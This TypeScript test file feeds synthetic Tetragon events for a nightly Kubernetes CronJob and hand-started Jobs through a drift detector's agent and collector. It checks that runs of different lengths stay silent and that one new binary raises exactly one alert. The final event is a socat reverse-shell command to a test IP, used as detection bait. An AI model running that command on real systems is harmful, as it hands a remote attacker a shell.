/**
 * A daily CronJob, end to end: Tetragon events (process_exec and tcp_connect of Job pods, with the
 * labels the Job controller sets and the workload Tetragon reports) → a real agent → a real
 * collector → the file sink, on the shipped defaults (the agent has no Kubernetes API, as when its
 * RBAC is missing: the hand-started Job is mapped by its name).
 *
 * - five nightly runs over five days, of very different lengths (40 s to 25 min), each doing its
 *   steps later in the run than the one before, and a Job started by hand from the CronJob
 *   (`kubectl create job nightly-report-manual-7xk2p --from=cronjob/nightly-report`) on day one
 *   and again on day four: silent;
 * - the last run executes a binary no run did: one notification.
 */
import t from 'tap';
import Database from 'better-sqlite3';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { stringify } from 'yaml';
import type { AlertDocumentV1 } from '../../collector/sinks/document.js';
import { eventually, freePort, spawnCli } from '../helpers/processes.js';

const T0 = Date.UTC(2026, 10, 20, 2, 0, 0);
const MIN = 60_000;
const DAY = 24 * 60 * MIN;
const CRONJOB = 'nightly-report';
const IMAGE = { id: 'ghcr.io/example/report@sha256:9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b', name: 'ghcr.io/example/report:1.4.0' };
const DB_SERVICE = '10.96.30.5';

type Line = Record<string, unknown>;

/** One Job's pod on node-a: its container's PID 1 is the entrypoint script, the steps its children. */
class JobRun {
  private pid: number;
  private port = 41000;
  readonly pod: string;
  private readonly containerId: string;
  private readonly entry: Line;

  constructor(
    private readonly out: { at: number; line: Line }[],
    readonly job: string,
    private readonly start: number,
    /** What Tetragon reports as the pod's workload: the CronJob for a scheduled run, the Job for one started by hand. */
    private readonly workload: { name: string; kind: 'CronJob' | 'Job' },
    n: number,
  ) {
    this.pid = 7000 + n * 100;
    this.pod = `${job}-${['b8k2d', 'q7m4z', 'x2c9f', 'w5n8h', 'r4t6v', 'z9p2k', 'm3j7l'][n % 7]}`;
    this.containerId = (n + 1).toString(16).padStart(64, 'e');
    this.entry = this.proc(this.start + 200, '/bin/sh', '/app/run.sh', this.shimId());
    this.emit(this.start + 200, { process_exec: { process: this.entry, parent: this.shim() } });
  }

  /** A step of the run, `offsetMs` after the container started. */
  exec(offsetMs: number, binary: string, args: string): void {
    const p = this.proc(this.start + offsetMs, binary, args, String(this.entry.exec_id));
    this.emit(this.start + offsetMs, { process_exec: { process: p, parent: this.entry } });
  }

  connect(offsetMs: number, binary: string, daddr: string, dport: number): void {
    const p = this.proc(this.start + offsetMs, binary, '', String(this.entry.exec_id));
    const sock = { family: 'AF_INET', type: 'SOCK_STREAM', protocol: 'IPPROTO_TCP', saddr: '10.244.1.77', daddr, sport: this.port++, dport, cookie: '18446600000000000064', state: 'TCP_SYN_SENT' };
    this.emit(this.start + offsetMs, { process_kprobe: { process: p, parent: this.entry, function_name: 'tcp_connect', args: [{ sock_arg: sock }], action: 'KPROBE_ACTION_POST', policy_name: 'driftwatch-network' } });
  }

  private proc(at: number, binary: string, args: string, parentExecId: string): Line {
    const pid = this.pid++;
    const uid = `5f1c2d3e-0000-4000-8000-${this.containerId.slice(-12)}`;
    return {
      exec_id: Buffer.from(`node-a:${at}:${pid}`).toString('base64'),
      pid,
      uid: 1000,
      cwd: '/app',
      binary,
      arguments: args,
      flags: 'execve clone',
      start_time: new Date(at).toISOString(),
      auid: 4294967295,
      pod: {
        namespace: 'batch',
        name: this.pod,
        container: { id: `containerd://${this.containerId}`, name: 'report', image: IMAGE, start_time: new Date(this.start).toISOString(), pid: pid - 6999, maybe_exec_probe: false },
        pod_labels: { 'batch.kubernetes.io/controller-uid': uid, 'batch.kubernetes.io/job-name': this.job, 'controller-uid': uid, 'job-name': this.job },
        workload: this.workload.name,
        workload_kind: this.workload.kind,
      },
      docker: this.containerId.slice(0, 31),
      parent_exec_id: parentExecId,
      tid: pid,
      in_init_tree: true,
    };
  }

  private shimId(): string {
    return Buffer.from(`node-a:shim:${this.containerId.slice(0, 8)}`).toString('base64');
  }

  private shim(): Line {
    return { exec_id: this.shimId(), pid: 900, uid: 0, binary: '/usr/bin/containerd-shim-runc-v2', flags: 'execve clone', start_time: new Date(this.start - 300).toISOString() };
  }

  private emit(at: number, body: Line): void {
    this.out.push({ at, line: { ...body, node_name: 'node-a', time: new Date(at).toISOString() } });
  }
}

/** The CronJob's steps, spread over a run of `lengthMs` (a short run does them all within the start-up grace). */
function nightly(run: JobRun, lengthMs: number, s3: string): void {
  run.exec(lengthMs * 0.05, '/usr/local/bin/python3.12', '/app/report.py --since=24h');
  run.connect(lengthMs * 0.1, '/usr/local/bin/python3.12', DB_SERVICE, 5432);
  run.exec(lengthMs * 0.8, '/usr/bin/gzip', '-9 /tmp/report.csv');
  run.connect(lengthMs * 0.9, '/usr/local/bin/python3.12', s3, 443);
}

function recording(): string {
  const out: { at: number; line: Line }[] = [];
  let n = 0;
  const scheduled = (day: number): JobRun => {
    const start = T0 + day * DAY;
    return new JobRun(out, `${CRONJOB}-${Math.floor(start / MIN)}`, start, { name: CRONJOB, kind: 'CronJob' }, n++);
  };
  const byHand = (at: number, suffix: string): JobRun => new JobRun(out, `${CRONJOB}-manual-${suffix}`, at, { name: `${CRONJOB}-manual-${suffix}`, kind: 'Job' }, n++);

  nightly(scheduled(0), 40_000, '52.218.1.10');
  nightly(byHand(T0 + 12 * 60 * MIN, '7xk2p'), 3 * MIN, '52.218.1.10');
  nightly(scheduled(1), 12 * MIN, '52.218.1.44');
  // Learning ended with the third run: from here on, enforced.
  nightly(scheduled(2), 25 * MIN, '52.218.1.97');
  nightly(scheduled(3), 18 * MIN, '52.218.1.10');
  nightly(byHand(T0 + 3 * DAY + 9 * 60 * MIN, 'k4r9w'), 20 * MIN, '52.218.1.44');
  const last = scheduled(4);
  nightly(last, 15 * MIN, '52.218.1.10');
  // The last event: a binary no run executed.
  last.exec(16 * MIN, '/usr/bin/socat', 'TCP:198.51.100.9:4444 EXEC:/bin/sh');
  return out
    .sort((a, b) => a.at - b.at)
    .map((o) => JSON.stringify(o.line))
    .join('\n')
    .concat('\n');
}

function deviationRows(dataDir: string): { item_key: string; workload: string }[] {
  if (!existsSync(join(dataDir, 'driftwatch.db'))) return [];
  const db = new Database(join(dataDir, 'driftwatch.db'), { readonly: true, fileMustExist: true });
  try {
    return db.prepare("SELECT d.item_key, w.kind || '/' || w.name AS workload FROM deviations d JOIN baselines b ON b.id = d.baseline_id JOIN workloads w ON w.id = b.workload_id ORDER BY d.id").all() as {
      item_key: string;
      workload: string;
    }[];
  } catch {
    return [];
  } finally {
    db.close();
  }
}

function deviationAlerts(path: string): AlertDocumentV1[] {
  if (!existsSync(path)) return [];
  return readFileSync(path, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as AlertDocumentV1)
    .filter((a) => a.kind === 'deviation' || a.kind === 'group');
}

t.test('a daily CronJob and Jobs started from it by hand: runs of any length are silent; a new binary in a run alerts once', async (t) => {
  const dir = t.testdir();
  const dataDir = join(dir, 'data');
  const events = join(dir, 'events.jsonl');
  writeFileSync(events, recording());
  const alerts = join(dir, 'alerts.jsonl');
  const grpcPort = await freePort();
  const configFile = join(dir, 'driftwatch.yaml');
  writeFileSync(
    configFile,
    stringify({
      cluster: 'test',
      log: { level: 'info', format: 'json' },
      collector: {
        dataDir,
        baselinesDir: join(dir, 'baselines'),
        grpc: { listen: `127.0.0.1:${grpcPort}` },
        http: { listen: '127.0.0.1:0' },
        // No detection setting changed: the shipped learning defaults.
        alerting: { sinks: [{ name: 'file', type: 'file', path: alerts }] },
      },
      agent: {
        node: 'node-a',
        collector: { address: `127.0.0.1:${grpcPort}` },
        sources: [{ kind: 'tetragon-json', address: events }],
        http: { listen: '127.0.0.1:0' },
        kubernetes: { mode: 'off' },
      },
    }),
  );
  const collector = spawnCli(['collector', '--config', configFile]);
  let agent: ReturnType<typeof spawnCli> | undefined;
  t.teardown(async () => {
    await agent?.stop('SIGKILL');
    await collector.stop('SIGKILL');
  });
  await collector.waitForLog(/collector ready/, 120_000);
  agent = spawnCli(['agent', '--config', configFile]);

  await eventually(() => deviationAlerts(alerts).some((a) => a.deviations.some((d) => d.itemKey === 'p|/usr/bin/socat')), 'the alert for the new binary', 120_000);
  await eventually(() => deviationAlerts(alerts).length >= deviationRows(dataDir).length, 'an alert for every deviation', 60_000);

  const sent = deviationAlerts(alerts);
  t.same(
    sent.map((a) => `${a.workload?.kind}/${a.workload?.name} ${a.deviations.map((d) => d.itemKey).join(',')}`),
    [`CronJob/${CRONJOB} p|/usr/bin/socat`],
    'one notification: the new binary, for the CronJob',
  );
  t.same(deviationRows(dataDir), [{ item_key: 'p|/usr/bin/socat', workload: `CronJob/${CRONJOB}` }], 'and no other deviation');
  const db = new Database(join(dataDir, 'driftwatch.db'), { readonly: true, fileMustExist: true });
  t.teardown(() => db.close());
  t.same(
    (db.prepare('SELECT kind, name FROM workloads ORDER BY id').all() as { kind: string; name: string }[]).map((w) => `${w.kind}/${w.name}`),
    [`CronJob/${CRONJOB}`],
    'the Jobs started by hand are runs of the CronJob, not workloads of their own',
  );
  t.same(
    (db.prepare('SELECT run FROM baseline_runs ORDER BY first_seen_ms').all() as { run: string }[]).map((r) => r.run),
    ['5f1c2d3e-0000-4000-8000-eeeeeeeeeee1', '5f1c2d3e-0000-4000-8000-eeeeeeeeeee2', '5f1c2d3e-0000-4000-8000-eeeeeeeeeee3'],
    'learned from three runs, the Job uids the agent read from the pod labels (the first Job started by hand was one)',
  );
  t.equal(await agent.stop(), 0);
  t.equal(await collector.stop(), 0);
});
